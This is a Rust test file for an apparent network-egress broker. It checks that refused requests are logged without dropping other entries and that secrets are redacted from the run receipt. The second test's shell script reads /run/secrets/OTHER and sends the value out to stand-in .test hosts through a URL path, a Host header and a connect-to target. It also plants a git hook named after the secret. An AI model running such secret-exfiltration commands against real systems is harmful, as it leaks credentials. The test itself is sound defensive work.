//! The account against a command that wants it wrong: what it hides, what it makes vanish, and what it writes into it.

use super::world::World;
use super::{refusals, rows};
use crate::support::Lab;

#[test]
fn a_refused_request_with_a_long_path_takes_no_other_line_out_of_the_account() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let task = world.brokered(&lab, "a-value-of-some-length", "paths = [\"/v1/*\"]");
    // The account is told ten times a second; so each step has its own word.
    let script = "head -c 3000000 /dev/zero >up; long=$(head -c 17000 /dev/zero | tr '\\0' x); get() { curl -sS -o /dev/null --http1.1 \"$@\"; sleep 0.3; }; \
                  get https://a.test:8443/v1/ok; for i in 1 2 3 4; do get https://a.test:8443/$i$long; done; \
                  for i in 1 2 3 4; do get http://z$i.test/ 2>/dev/null; done; get --data-binary @up http://b.test:8080/; \
                  for i in 1 2 3 4; do get http://z$i.test/ 2>/dev/null; done; get https://a.test:8443/v1/ok";
    let run = task.args(["--allow", "b.test:8080"]).sh(script);
    run.ended_as("succeeded", 0);
    let uploads = rows(&run, "b.test");
    assert_eq!(uploads.len(), 1, "{run:#?}");
    assert!(uploads[0]["sent_bytes"].as_u64().unwrap() >= 3_000_000 && uploads[0]["count"] == 1, "{run:#?}");
    for number in 1..=4 {
        assert_eq!(rows(&run, &format!("z{number}.test")).len(), 1, "{run:#?}");
    }
    let why = refusals(&run, "a.test");
    assert_eq!(why.matches("…").count(), 4, "{run:#?}");
    assert!(run.receipt()["egress"]["faults"].is_null(), "{run:#?}");
}

#[test]
fn a_secret_in_what_is_refused_is_not_in_the_receipt() {
    let lab = Lab::new();
    let Some(world) = World::new(&lab) else { return };
    let value = "correct-horse-battery-staple";
    let other = lab.file("other", value);
    let rules = format!("paths = [\"/v1/*\"]\n[secrets.OTHER]\nsource = \"file:{}\"\n", other.display());
    let task = world.brokered(&lab, "a-value-of-some-length", &rules);
    let script = "s=$(cat /run/secrets/OTHER); curl -sS https://a.test:8443/x/$s; curl -sS -H \"Host: $s.test\" http://b.test:8080/; \
                  curl -sSk --connect-to $s.test:8080:b.test:8080 https://$s.test:8080/; mkdir -p .githooks; \
                  echo '#!/bin/sh' >.githooks/$s; chmod +x .githooks/$s; echo text >$s.txt; true";
    let run = task.args(["--allow", "b.test:8080", "--artifact", "**"]).sh(script);
    let receipt = run.receipt().to_string();
    assert!(!receipt.contains(value), "{receipt}");
    assert!(refusals(&run, "a.test").contains("not for /x/[redacted:OTHER]"), "{run:#?}");
    assert_eq!(refusals(&run, "b.test").matches("[redacted:OTHER].test").count(), 2, "{run:#?}");
    assert!(receipt.contains(r#""path":"[redacted:OTHER].txt","why":"secret""#), "{receipt}");
}
